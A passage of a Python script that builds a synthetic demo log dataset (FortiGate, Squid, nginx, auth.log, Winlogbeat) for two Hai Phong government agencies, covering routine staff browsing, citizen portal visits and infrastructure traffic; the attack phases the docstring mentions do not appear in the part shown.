#!/usr/bin/env python3
"""Write the demo dataset: three hours of two Hai Phong agencies' logs with a multi-stage attack.

Usage::

    python demo/generate.py [--start ISO] [--out DIR] [--seed N]

``--start`` is the first instant of the three-hour window (default: now minus
three hours); a time without offset is Vietnam time. Output, one file per
format, in the devices' native formats:

``fortigate.log``
    two FortiGates' syslog (key=value traffic, UTM ips/virus/webfilter);
``squid.log``
    the city proxy's native ``access.log``;
``nginx.log``
    the Department of Finance portal's nginx ``combined`` access log;
``auth.log``
    the portal web server's ``/var/log/auth.log`` (rsyslog traditional format);
``winlog.jsonl``
    Winlogbeat JSON documents (one per line) from a Le Chan workstation and domain controller.

The same ``--start`` and ``--seed`` always give byte-identical files. The story,
addresses and the detections each phase should trigger are in ``docs/demo.md``.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import random
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

if __package__ in (None, ""):  # run as a script: make ``demo`` importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from demo import topology as t  # noqa: E402

VN = timezone(timedelta(hours=7))
SPAN = timedelta(hours=3)
DEFAULT_SEED = 20261130
FILES = ("fortigate.log", "squid.log", "nginx.log", "auth.log", "winlog.jsonl")

Shape = Callable[[datetime], float]


# ----------------------------------------------------------------------------------------------------
# Daily rhythm
# ----------------------------------------------------------------------------------------------------
def _local_hour(ts: datetime) -> tuple[float, bool]:
    lt = ts.astimezone(VN)
    return lt.hour + lt.minute / 60, lt.weekday() >= 5


def office(ts: datetime) -> float:
    """Share of staff at work: government hours 7:30-11:30 and 13:30-17:00, Monday to Friday."""
    h, weekend = _local_hour(ts)
    if weekend:
        return 0.03
    if 7.5 <= h < 11.5 or 13.5 <= h < 17:
        return 1.0
    if 7 <= h < 7.5 or 17 <= h < 18:
        return 0.35
    if 11.5 <= h < 13.5:
        return 0.3
    return 0.03


def citizens(ts: datetime) -> float:
    """Citizens reading the portal: office hours, an evening tail, a quiet night."""
    h, weekend = _local_hour(ts)
    if h < 6:
        v = 0.08
    elif h < 8:
        v = 0.4
    elif h < 11.5 or 13.5 <= h < 17:
        v = 1.0
    elif h < 13.5:
        v = 0.6
    elif h < 22:
        v = 0.5
    else:
        v = 0.2
    return v * (0.6 if weekend else 1.0)


def flat(_ts: datetime) -> float:
    return 1.0


# ----------------------------------------------------------------------------------------------------
# Output helpers
# ----------------------------------------------------------------------------------------------------
class Bare(str):
    """A FortiGate value written without quotes (addresses)."""


@dataclass
class Out:
    end: datetime
    """Lines stamped later are not written: sessions still open at the end have not been logged yet."""
    lines: dict[str, list[tuple[datetime, int, str]]] = field(default_factory=lambda: {f: [] for f in FILES})
    seq: int = 0

    def add(self, name: str, ts: datetime, line: str) -> None:
        if ts > self.end:
            return
        self.seq += 1
        self.lines[name].append((ts, self.seq, line))

    def write(self, out_dir: Path) -> dict[str, int]:
        out_dir.mkdir(parents=True, exist_ok=True)
        counts = {}
        for name, rows in self.lines.items():
            rows.sort(key=lambda r: (r[0], r[1]))
            with (out_dir / name).open("w", encoding="utf-8", newline="\n") as fh:
                for _, _, line in rows:
                    fh.write(line + "\n")
            counts[name] = len(rows)
        return counts


_FGT_PRI = {"alert": 185, "critical": 186, "error": 187, "warning": 188, "notice": 189, "information": 190}
_SERVICES = {21: "FTP", 22: "SSH", 23: "TELNET", 25: "SMTP", 53: "DNS", 80: "HTTP", 110: "POP3", 123: "NTP",
             135: "DCE-RPC", 139: "SAMBA", 143: "IMAP", 161: "SNMP", 389: "LDAP", 443: "HTTPS", 445: "SMB",
             1433: "MS-SQL", 3306: "MYSQL", 3389: "RDP", 5432: "tcp/5432", 5900: "VNC"}
_COUNTRY = {t.ATTACKER_IP: "Netherlands", t.EXFIL_IP: "Bulgaria", t.PHISH_IP: "Singapore", t.C2_IP: "United States"}

# Internet services (address, country) the agencies use.
DNS_UPSTREAM = [("203.162.4.191", "Vietnam"), ("203.113.131.1", "Vietnam"), ("8.8.8.8", "United States")]
NTP_SERVERS = [("162.159.200.123", "United States"), ("103.147.22.149", "Vietnam"), ("27.71.230.160", "Vietnam")]
UBUNTU_MIRROR = ("91.189.91.83", "United Kingdom")

# Sites staff browse through the city proxy: (domain, address, https).
SITES: list[tuple[str, str, bool]] = [
    ("vnexpress.net", "111.65.250.2", True), ("dantri.com.vn", "42.113.206.26", True),
    ("thuvienphapluat.vn", "118.69.164.19", True), ("baochinhphu.vn", "14.225.7.20", True),
    ("dichvucong.gov.vn", "14.225.0.80", True), ("haiphong.gov.vn", "113.160.225.67", True),
    ("www.mof.gov.vn", "123.30.104.91", True), ("www.google.com", "142.250.198.36", True),
    ("www.youtube.com", "142.250.199.78", True), ("tuoitre.vn", "103.90.220.11", True),
    ("cafef.vn", "112.213.89.21", True), ("baomoi.com", "118.102.1.123", True),
    ("chat.zalo.me", "49.213.78.22", True), ("www.facebook.com", "157.240.199.35", True),
    ("login.microsoftonline.com", "20.190.151.7", True), ("www.office.com", "13.107.6.156", True),
    ("tapchitaichinh.vn", "103.97.125.22", True), ("congbao.haiphong.gov.vn", "113.160.225.70", False),
]
CDNS: list[tuple[str, str]] = [
    ("fonts.googleapis.com", "142.250.204.74"), ("www.gstatic.com", "142.250.66.99"),
    ("cdn.jsdelivr.net", "104.16.89.20"), ("www.google-analytics.com", "142.250.197.46"),
    ("static.xx.fbcdn.net", "157.240.199.19"), ("stc-zaloprofile.zdn.vn", "49.213.118.150"),
]
HTTP_UPDATES = [
    ("http://ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab", "117.18.232.200",
     "application/vnd.ms-cab-compressed", 6_712),
    ("http://www.msftconnecttest.com/connecttest.txt", "23.55.161.174", "text/plain", 22),
    ("http://ocsp.digicert.com/MFEwTzBNMEswSTAJBgUrDgMCGgUABBSAUQYBMq2awn1Rh6Doh%2FsBYgFV7gQUA95QNVbRTLtm8KPiGxvDl7I90VUCEAJ0LqoXyo4hxxe7H%2Fz9DKA%3D",
     "72.21.91.29", "application/ocsp-response", 471),
]
DENIED_SITES = ["bet88vn.club:443", "fb88.link:443", "www.tiktok.com:443"]

CITIZEN_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/134.0.232 Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Redmi Note 12) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
]
BOTS = [
    ("66.249.66.{}", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("123.30.175.{}", "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)"),
    ("40.77.167.{}", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"),
]
# Vietnamese ISPs' address blocks (first two octets) for citizens' addresses.
VN_PREFIXES = ["113.161", "113.185", "14.162", "14.177", "27.72", "27.67", "171.236", "171.241", "42.114",
               "42.118", "118.70", "123.24", "116.96", "1.54", "58.186", "183.80"]

PORTAL_PAGES = [
    ("/", 38_214), ("/tin-tuc.php", 31_902), ("/tin-tuc/chi-tiet.php?id={n}", 24_530),
    ("/van-ban.php?loai=quyet-dinh", 27_118), ("/van-ban/chi-tiet.php?id={n}", 19_877),
    ("/thu-tuc-hanh-chinh.php", 22_406), ("/cong-khai-ngan-sach.php?nam=2026", 29_660),
    ("/gia-dat.php?quan=le-chan", 41_337), ("/gia-dat.php?quan=ngo-quyen", 40_918), ("/lien-he.php", 12_044),
    ("/tim-kiem.php?q=bang+gia+dat+2026", 17_553), ("/tim-kiem.php?q=quyet+toan+ngan+sach", 16_208),
]
PORTAL_ASSETS = [
    ("/static/css/style.min.css?v=3.2.1", 48_112), ("/static/js/jquery-3.7.1.min.js", 87_533),
    ("/static/js/main.js?v=3.2.1", 9_402), ("/static/images/logo-stc.png", 14_871),
    ("/static/images/banner-2026.jpg", 212_390), ("/static/fonts/Roboto-Regular.woff2", 64_668),
]
PORTAL_DOWNLOADS = ["QD-2105-STC-2026.pdf", "CV-1874-STC-NS.pdf", "BC-quyet-toan-2025.pdf", "bang-gia-dat-2026.xlsx"]


def _guid(rng: random.Random, upper: bool = False) -> str:
    h = f"{rng.getrandbits(128):032x}"
    g = f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"
    return "{" + (g.upper() if upper else g) + "}"


def _hex(seed: str, n: int) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:n].upper()


def _sid(rid: int) -> str:
    return f"S-1-5-21-3254061731-2871350947-1093864822-{rid}"


class Demo:
    """Builds every line of the demo; one instance per run."""

    def __init__(self, start: datetime, seed: int) -> None:
        self.start = start.astimezone(UTC)
        self.end = self.start + SPAN
        self.rng = random.Random(seed)
        self.out = Out(self.end)
        self.session_ids = {t.STC_FW.devname: 318_440_000 + self.rng.randrange(10_000),
                            t.LC_FW.devname: 92_710_000 + self.rng.randrange(10_000)}
        self.incident_serial = 1_209_330_000 + self.rng.randrange(100_000)
        self.pid = 120_000 + self.rng.randrange(5_000)
        self.ssh_session = 300 + self.rng.randrange(50)
        self.records: dict[tuple[str, str], int] = {}

    # -- time helpers ---------------------------------------------------------------------------------
    def at(self, minutes: float) -> datetime:
        return self.start + timedelta(minutes=minutes)

    def arrivals(self, per_hour: float, shape: Shape, start: datetime | None = None,
                 end: datetime | None = None) -> list[datetime]:
        """Poisson arrivals at ``per_hour`` scaled by ``shape`` (thinning); deterministic given the seed."""
        cur, stop = start or self.start, end or self.end
        out: list[datetime] = []
        rate = per_hour / 3600
        while True:
            cur = cur + timedelta(seconds=self.rng.expovariate(rate))
            if cur >= stop:
                return out
            if self.rng.random() < shape(cur):
                out.append(cur.replace(microsecond=self.rng.randrange(1_000_000)))

    def next_pid(self) -> int:
        self.pid += self.rng.randint(1, 40)
        return self.pid

    def eport(self) -> int:
        return self.rng.randint(32_768, 60_999)

    # -- FortiGate ------------------------------------------------------------------------------------
    def fgt(self, ts: datetime, fw: t.Firewall, logid: str, type_: str, subtype: str, level: str,
            fields: list[tuple[str, Any]], eventtype: str | None = None) -> None:
        lt = ts.astimezone(VN)
        ns = int(ts.timestamp()) * 1_000_000_000 + ts.microsecond * 1000 + self.rng.randrange(1000)
        parts = [f"<{_FGT_PRI[level]}>date={lt:%Y-%m-%d}", f"time={lt:%H:%M:%S}", f'devname="{fw.devname}"',
                 f'devid="{fw.devid}"', f"eventtime={ns}", 'tz="+0700"', f'logid="{logid}"', f'type="{type_}"',
                 f'subtype="{subtype}"']
        if eventtype:
            parts.append(f'eventtype="{eventtype}"')
        parts += [f'level="{level}"', 'vd="root"']
        for k, v in fields:
            if v is None:
                continue
            parts.append(f"{k}={v}" if isinstance(v, int | Bare) else f'{k}="{v}"')
        self.out.add("fortigate.log", ts, " ".join(parts))

    def new_session(self, fw: t.Firewall) -> int:
        self.session_ids[fw.devname] += self.rng.randint(1, 900)
        return self.session_ids[fw.devname]

    @staticmethod
    def _policy(fw: t.Firewall, name: str) -> tuple[int, str]:
        digest = hashlib.md5(f"{fw.devid}/{name}".encode()).hexdigest()  # noqa: S324 - an id, not security
        pid = int(digest[:4], 16) % 90 + 2
        return pid, f"{digest[:8]}-{digest[8:12]}-51ef-{digest[16:20]}-{digest[20:32]}"

    @staticmethod
    def _country(ip: str) -> str:
        if ip.startswith(("10.", "203.0.113.", "198.51.100.")):
            return "Reserved"
        if ip in _COUNTRY:
            return _COUNTRY[ip]
        if any(ip.startswith(p + ".") for p in VN_PREFIXES) or ip.startswith(("203.162.", "203.113.", "14.225.", "113.160.", "123.30.")):
            return "Vietnam"
        return "United States"

    def traffic(self, ts: datetime, fw: t.Firewall, *, src: str, sport: int, dst: str, dport: int,
                sintf: str, dintf: str, policy: str | None, action: str = "close", proto: int = 6,
                duration: int = 0, sent: int = 0, rcvd: int = 0, nat: str = "noop", nat_ip: str | None = None,
                nat_port: int | None = None, service: str | None = None, utm: dict[str, Any] | None = None,
                session: int | None = None, level: str | None = None) -> int:
        """A forward-traffic log written when the session ends (or is denied)."""
        roles = {fw.lan: "lan", fw.dmz: "dmz", fw.srv: "lan", fw.wan: "wan", fw.city: "undefined"}
        sid = session or self.new_session(fw)
        pid, puuid = self._policy(fw, policy) if policy else (0, None)
        svc = service or _SERVICES.get(dport) or f"{'udp' if proto == 17 else 'tcp'}/{dport}"
        f: list[tuple[str, Any]] = [
            ("srcip", Bare(src)), ("srcport", sport), ("srcintf", sintf), ("srcintfrole", roles.get(sintf, "undefined")),
            ("dstip", Bare(dst)), ("dstport", dport), ("dstintf", dintf), ("dstintfrole", roles.get(dintf, "undefined")),
            ("srccountry", self._country(src)), ("dstcountry", self._country(dst)), ("sessionid", sid),
            ("proto", proto), ("action", action), ("policyid", pid), ("policytype", "policy"),
            ("poluuid", puuid), ("policyname", policy), ("service", svc), ("trandisp", nat),
        ]
        if nat == "snat":
            f += [("transip", Bare(nat_ip or fw.public_ip)), ("transport", nat_port or self.eport())]
        elif nat == "dnat":
            f += [("tranip", Bare(nat_ip or dst)), ("tranport", nat_port or dport)]
        f += [("appcat", "unscanned"), ("duration", duration), ("sentbyte", sent), ("rcvdbyte", rcvd),
              ("sentpkt", max(sent // 900, 1 if sent else 0)), ("rcvdpkt", max(rcvd // 1200, 1 if rcvd else 0))]
        if utm:
            f += list(utm.items())
        if action == "deny":
            f += [("crscore", 30), ("craction", 131072), ("crlevel", "high")]
        self.fgt(ts, fw, "0000000013", "traffic", "forward", level or ("warning" if action == "deny" else "notice"), f)
        return sid

    def ips(self, ts: datetime, fw: t.Firewall, *, src: str, sport: int, dst: str, dport: int, sintf: str,
            dintf: str, policy: str, attack: str, attackid: int, severity: str, direction: str,
            service: str, msg_group: str, session: int, hostname: str | None = None, url: str | None = None,
            action: str = "detected") -> None:
        self.incident_serial += self.rng.randint(3, 400)
        pid, _ = self._policy(fw, policy)
        roles = {fw.lan: "lan", fw.dmz: "dmz", fw.srv: "lan", fw.wan: "wan"}
        self.fgt(ts, fw, "0419016384", "utm", "ips", "alert", [
            ("severity", severity), ("srcip", Bare(src)), ("srccountry", self._country(src)), ("dstip", Bare(dst)),
            ("dstcountry", self._country(dst)), ("srcintf", sintf), ("srcintfrole", roles.get(sintf, "undefined")),
            ("dstintf", dintf), ("dstintfrole", roles.get(dintf, "undefined")), ("sessionid", session),
            ("action", action), ("proto", 6), ("service", service), ("policyid", pid), ("attack", attack),
            ("srcport", sport), ("dstport", dport), ("hostname", hostname), ("url", url), ("direction", direction),
            ("attackid", attackid), ("profile", "protect_http_server" if direction == "incoming" else "default"),
            ("ref", f"http://www.fortinet.com/ids/VID{attackid}"), ("incidentserialno", self.incident_serial),
            ("msg", f"{msg_group}: {attack},"),
            ("crscore", 50 if severity == "critical" else 30), ("craction", 4096 if severity == "critical" else 8192),
            ("crlevel", severity),
        ], eventtype="signature")

    def webfilter(self, ts: datetime, fw: t.Firewall, *, src: str, user: str, dst: str, sport: int,
                  hostname: str, policy: str, blocked: bool, cat: int, catdesc: str, session: int) -> None:
        pid, _ = self._policy(fw, policy)
        sent, rcvd = (517, 0) if blocked else (self.rng.randint(900, 3000), self.rng.randint(3000, 9000))
        self.fgt(ts, fw, "0316013056" if blocked else "0317013312", "utm", "webfilter",
                 "warning" if blocked else "notice", [
                     ("policyid", pid), ("sessionid", session), ("user", user), ("srcip", Bare(src)),
                     ("srcport", sport), ("srcintf", fw.lan), ("srcintfrole", "lan"), ("dstip", Bare(dst)),
                     ("dstport", 443), ("dstintf", fw.wan), ("dstintfrole", "wan"), ("proto", 6),
                     ("service", "HTTPS"), ("hostname", hostname), ("profile", "webfilter-co-quan"),
                     ("action", "blocked" if blocked else "passthrough"), ("reqtype", "direct"), ("url", "/"),
                     ("sentbyte", sent), ("rcvdbyte", rcvd), ("direction", "outgoing"),
                     ("msg", "URL belongs to a denied category in policy" if blocked
                      else "URL belongs to an allowed category in policy"),
                     ("method", "domain"), ("cat", cat), ("catdesc", catdesc)],
                 eventtype="ftgd_blk" if blocked else "ftgd_allow")

    # -- Squid, nginx, syslog -------------------------------------------------------------------------------
    def squid(self, ts: datetime, elapsed: int, client: str, code: str, status: int, size: int, method: str,
              url: str, user: str, peer: str | None, ctype: str) -> None:
        hier = f"HIER_DIRECT/{peer}" if peer else "HIER_NONE/-"
        epoch = f"{int(ts.timestamp())}.{ts.microsecond // 1000:03d}"
        self.out.add("squid.log", ts, f"{epoch} {elapsed:6d} {client} {code}/{status:03d} {size} {method} {url} "
                                      f"{user or '-'} {hier} {ctype}")

    def nginx(self, ts: datetime, ip: str, method: str, path: str, status: int, size: int, ref: str, ua: str,
              user: str = "-") -> None:
        lt = ts.astimezone(VN)
        self.out.add("nginx.log", ts, f'{ip} - {user} [{lt:%d/%b/%Y:%H:%M:%S} +0700] "{method} {path} HTTP/1.1" '
                                      f'{status} {size} "{ref}" "{ua}"')

    def auth(self, ts: datetime, prog: str, msg: str, pid: int | None = None) -> None:
        lt = ts.astimezone(VN)
        tag = f"{prog}[{pid}]" if pid is not None else prog
        self.out.add("auth.log", ts, f"{lt:%b} {lt.day:2d} {lt:%H:%M:%S} {t.STC_PORTAL.name} {tag}: {msg}")

    # -- Winlogbeat ---------------------------------------------------------------------------------------
    def winlog(self, ts: datetime, host: t.Host, channel: str, event_id: int, provider: str, task: str,
               event_data: dict[str, str], message: str, outcome: str | None = None,
               keywords: list[str] | None = None) -> None:
        key = (host.name, channel)
        self.records[key] = self.records.get(key, 50_000 + self.rng.randrange(400_000)) + self.rng.randint(1, 30)
        is_dc = host is t.LC_DC
        short = host.name.lower()
        sysmon = provider == "Microsoft-Windows-Sysmon"
        doc: dict[str, Any] = {
            "@timestamp": ts.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.15.3"},
            "agent": {"ephemeral_id": _guid(random.Random(short + "e"))[1:-1],
                      "id": _guid(random.Random(short + "a"))[1:-1], "name": host.name,
                      "type": "winlogbeat", "version": "8.15.3"},
            "ecs": {"version": "8.0.0"},
            "event": {"action": task, "code": str(event_id), "created": (ts + timedelta(milliseconds=self.rng.randint(300, 4000))).astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
                      "kind": "event", "provider": provider},
            "host": {"architecture": "x86_64", "hostname": short, "id": _guid(random.Random(short))[1:-1],
                     "ip": [host.ip], "mac": ["00-50-56-" + "-".join(_hex(short, 6)[i:i + 2] for i in (0, 2, 4))],
                     "name": short,
                     "os": {"build": "20348.2849" if is_dc else "19045.5131", "family": "windows",
                            "kernel": "10.0.20348.2849 (WinBuild.160101.0800)" if is_dc
                            else "10.0.19041.5131 (WinBuild.160101.0800)",
                            "name": "Windows Server 2022 Standard" if is_dc else "Windows 10 Pro",
                            "platform": "windows", "type": "windows", "version": "10.0"}},
            "log": {"level": "information"},
            "message": message,
            "winlog": {
                "api": "wineventlog", "channel": channel,
                "computer_name": f"{host.name}.{t.LC_DOMAIN.lower()}.local",
                "event_data": event_data, "event_id": str(event_id), "opcode": "Info",
                "process": {"pid": 3164 if sysmon else 784, "thread": {"id": self.rng.randint(1000, 9000)}},
                "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" if sysmon
                else "{54849625-5478-4994-a5ba-3e3b0328c30d}",
                "provider_name": provider, "record_id": self.records[key], "task": task,
            },
        }
        if outcome:
            doc["event"]["outcome"] = outcome
        if keywords:
            doc["winlog"]["keywords"] = keywords
        if sysmon:
            doc["winlog"]["user"] = {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM",
                                     "type": "User"}
            doc["winlog"]["version"] = 5
        self.out.add("winlog.jsonl", ts, json.dumps(doc, ensure_ascii=False, sort_keys=True, separators=(",", ":")))

    # ==================================================================================================
    # Background
    # ==================================================================================================
    def background(self) -> None:
        self.browsing()
        self.direct_web()
        self.portal_visits()
        self.dvc_visits()
        self.infrastructure()
        self.internet_noise()
        self.portal_server()
        self.windows_routine()

    def browsing(self) -> None:
        """Staff browsing through the city proxy, with the agency FortiGates' sessions to the proxy."""
        for fw, pcs, rate in ((t.STC_FW, t.STC_PCS, 70), (t.LC_FW, t.LC_PCS, 60)):
            for ts in self.arrivals(rate, office):
                pc = self.rng.choice(pcs)
                self.browse_once(ts, fw, pc)

    def browse_once(self, ts: datetime, fw: t.Firewall, pc: t.Host) -> None:
        rng = self.rng
        cur, total_sent, total_rcvd = ts, 0, 0
        if rng.random() < 0.03:
            target = rng.choice(DENIED_SITES)
            self.squid(cur, 0, pc.ip, "TCP_DENIED", 403, 3_921, "CONNECT", target, pc.user or "-", None, "text/html")
            total_sent += 240
            total_rcvd += 3_921
        else:
            domain, ip, https = rng.choice(SITES)
            el = rng.randint(1_500, 180_000)
            if https:
                size = rng.randint(4_000, 900_000)
                self.squid(cur + timedelta(milliseconds=el), el, pc.ip, "TCP_TUNNEL", 200, size, "CONNECT",
                           f"{domain}:443", pc.user or "-", ip, "-")
            else:
                size = rng.randint(8_000, 60_000)
                el = rng.randint(40, 900)
                self.squid(cur + timedelta(milliseconds=el), el, pc.ip, "TCP_MISS", 200, size, "GET",
                           f"http://{domain}/", pc.user or "-", ip, "text/html")
            total_rcvd += size
            total_sent += size // 20 + 600
            for _ in range(rng.randint(0, 3)):
                cdn, cip = rng.choice(CDNS)
                el2 = rng.randint(300, 60_000)
                size2 = rng.randint(2_000, 250_000)
                self.squid(cur + timedelta(milliseconds=el2 + rng.randint(50, 900)), el2, pc.ip, "TCP_TUNNEL",
                           200, size2, "CONNECT", f"{cdn}:443", pc.user or "-", cip, "-")
                total_rcvd += size2
            if rng.random() < 0.15:
                url, uip, ctype, usize = rng.choice(HTTP_UPDATES)
                code = rng.choice(["TCP_MISS", "TCP_REFRESH_UNMODIFIED", "TCP_MEM_HIT"])
                el3 = 0 if code == "TCP_MEM_HIT" else rng.randint(20, 400)
                self.squid(cur + timedelta(seconds=rng.randint(1, 20)), el3, pc.ip, code, 200, usize, "GET", url,
                           pc.user or "-", None if code == "TCP_MEM_HIT" else uip, ctype)
        duration = rng.randint(5, 240)
        self.traffic(ts + timedelta(seconds=duration), fw, src=pc.ip, sport=self.eport(), dst=t.CITY_PROXY_IP,
                     dport=t.CITY_PROXY_PORT, sintf=fw.lan, dintf=fw.city, policy="LAN-to-CityProxy",
                     duration=duration, sent=total_sent, rcvd=total_rcvd, service="tcp/3128")

    def direct_web(self) -> None:
        """Traffic exempted from the proxy (Microsoft 365, Zalo) with FortiGuard web-filter logs."""
        direct = [("outlook.office365.com", "52.98.207.18", 52, "Information Technology"),
                  ("teams.microsoft.com", "52.113.194.132", 52, "Information Technology"),
                  ("chat.zalo.me", "49.213.78.22", 23, "Web-based Email")]
        for fw, pcs in ((t.STC_FW, t.STC_PCS), (t.LC_FW, t.LC_PCS)):
            for ts in self.arrivals(14, office):
                pc = self.rng.choice(pcs)
                host, ip, cat, desc = self.rng.choice(direct)
                sport = self.eport()
                sid = self.new_session(fw)
                self.webfilter(ts, fw, src=pc.ip, user=pc.user or "", dst=ip, sport=sport, hostname=host,
                               policy="LAN-Direct-M365-Zalo", blocked=False, cat=cat, catdesc=desc, session=sid)
                dur = self.rng.randint(20, 900)
                self.traffic(ts + timedelta(seconds=dur), fw, src=pc.ip, sport=sport, dst=ip, dport=443,
                             sintf=fw.lan, dintf=fw.wan, policy="LAN-Direct-M365-Zalo", duration=dur,
                             sent=self.rng.randint(3_000, 90_000), rcvd=self.rng.randint(8_000, 600_000), nat="snat",
                             session=sid, utm={"utmaction": "allow", "countweb": 1})
            for ts in self.arrivals(0.7, office):
                pc = self.rng.choice(pcs)
                sid = self.new_session(fw)
                self.webfilter(ts, fw, src=pc.ip, user=pc.user or "", dst="104.21.48.77", sport=self.eport(),
                               hostname="bet88vn.club", policy="LAN-Direct-M365-Zalo", blocked=True, cat=11,
                               catdesc="Gambling", session=sid)

    def citizen_ip(self) -> str:
        return f"{self.rng.choice(VN_PREFIXES)}.{self.rng.randint(1, 254)}.{self.rng.randint(1, 254)}"

    def portal_visits(self) -> None:
        """Citizens and crawlers on the Finance portal, the monitoring probe, and the FortiGate's DNAT sessions."""
        rng = self.rng
        fw = t.STC_FW
        for ts in self.arrivals(70, citizens):
            ip, ua = self.citizen_ip(), rng.choice(CITIZEN_UAS)
            ref = rng.choice(["-", "https://www.google.com/", "https://coccoc.com/", "https://haiphong.gov.vn/",
                              "https://www.facebook.com/"])
            cur, sent, rcvd = ts, 0, 0
            pages = rng.choice([1, 1, 2, 2, 3, 4, 6])
            for i in range(pages):
                if i == 0 or rng.random() < 0.9:
                    path, size = rng.choice(PORTAL_PAGES)
                    path = path.format(n=rng.randint(1800, 2460))
                else:
                    path = f"/tai-ve.php?file={rng.choice(PORTAL_DOWNLOADS)}"
                    size = rng.randint(180_000, 2_400_000)
                size += rng.randint(-900, 900)
                self.nginx(cur, ip, "GET", path, 200, size, ref, ua)
                rcvd += size
                for asset, asize in PORTAL_ASSETS:
                    if i == 0 or rng.random() < 0.1:
                        cur += timedelta(milliseconds=rng.randint(30, 400))
                        status, sz = (200, asize) if i == 0 else (304, 0)
                        self.nginx(cur, ip, "GET", asset, status, sz, f"https://{t.STC_PORTAL_DOMAIN}{path}", ua)
                        rcvd += sz
                if i == 0 and rng.random() < 0.4:
                    self.nginx(cur + timedelta(milliseconds=120), ip, "GET", "/favicon.ico", 200, 5_430,
                               f"https://{t.STC_PORTAL_DOMAIN}{path}", ua)
                ref = f"https://{t.STC_PORTAL_DOMAIN}{path}"
                sent += 900 + len(path) * 3
                cur += timedelta(seconds=rng.randint(8, 150))
            dur = int((cur - ts).total_seconds()) + rng.randint(5, 65)
            self.traffic(ts + timedelta(seconds=dur), fw, src=ip, sport=self.eport(), dst=t.STC_PORTAL_PUBLIC,
                         dport=443, sintf=fw.wan, dintf=fw.dmz, policy="WAN-to-Portal-HTTPS", duration=dur,
                         sent=sent, rcvd=rcvd + 6_000, nat="dnat", nat_ip=t.STC_PORTAL.ip, nat_port=443)
        for ts in self.arrivals(24, flat):
            ipfmt, ua = rng.choice(BOTS)
            path, size = rng.choice(PORTAL_PAGES)
            path = path.format(n=rng.randint(1200, 2460))
            self.nginx(ts, ipfmt.format(rng.randint(2, 250)), "GET", path, rng.choice([200, 200, 200, 304]),
                       size, "-", ua)
        probe = self.start + timedelta(seconds=rng.randint(0, 59))
        while probe < self.end:
            self.nginx(probe.replace(microsecond=rng.randrange(1_000_000)), t.STC_MONITOR.ip, "GET",
                       "/healthz.php", 200, 15, "-", "Zabbix")
            probe += timedelta(seconds=60)

    def dvc_visits(self) -> None:
        """Le Chan's online public-service portal: only the FortiGate sees it in this dataset."""
        fw = t.LC_FW
        for ts in self.arrivals(45, citizens):
            dur = self.rng.randint(20, 900)
            self.traffic(ts + timedelta(seconds=dur), fw, src=self.citizen_ip(), sport=self.eport(),
                         dst=t.LC_DVC_PUBLIC, dport=443, sintf=fw.wan, dintf=fw.dmz, policy="WAN-to-DVC-HTTPS",
                         duration=dur, sent=self.rng.randint(2_000, 400_000), rcvd=self.rng.randint(20_000, 3_000_000),
                         nat="dnat", nat_ip=t.LC_DVC.ip, nat_port=443)

    def infrastructure(self) -> None:
        """DNS forwarding, NTP, OS updates, the portal's database queries, admin SSH."""
        rng = self.rng
        for fw, dns, intf in ((t.STC_FW, t.STC_DNS, t.STC_FW.lan), (t.LC_FW, t.LC_DC, t.LC_FW.srv)):
            for ts in self.arrivals(90, lambda x: 0.25 + 0.75 * office(x)):
                up, _ = rng.choice(DNS_UPSTREAM)
                self.traffic(ts, fw, src=dns.ip, sport=rng.randint(1024, 65535), dst=up, dport=53, proto=17,
                             sintf=intf, dintf=fw.wan, policy="DNS-Forwarder-Out", action="accept",
                             duration=180, sent=rng.randint(70, 140), rcvd=rng.randint(90, 600), nat="snat")
            cur = self.start + timedelta(seconds=rng.randint(0, 1000))
            while cur < self.end:
                ntp, _ = rng.choice(NTP_SERVERS)
                self.traffic(cur, fw, src=dns.ip, sport=123, dst=ntp, dport=123, proto=17, sintf=intf,
                             dintf=fw.wan, policy="NTP-Out", action="accept", duration=180, sent=76, rcvd=76,
                             nat="snat")
                cur += timedelta(seconds=1024 + rng.randint(0, 30))
        fw = t.STC_FW
        for ts in self.arrivals(30, lambda x: 0.3 + 0.7 * citizens(x)):
            dur = rng.randint(1, 30)
            self.traffic(ts, fw, src=t.STC_PORTAL.ip, sport=self.eport(), dst=t.STC_DB.ip, dport=5432,
                         sintf=fw.dmz, dintf=fw.srv, policy="DMZ-Portal-to-FinDB-PgSQL", duration=dur,
                         sent=rng.randint(600, 4_000), rcvd=rng.randint(2_000, 120_000))
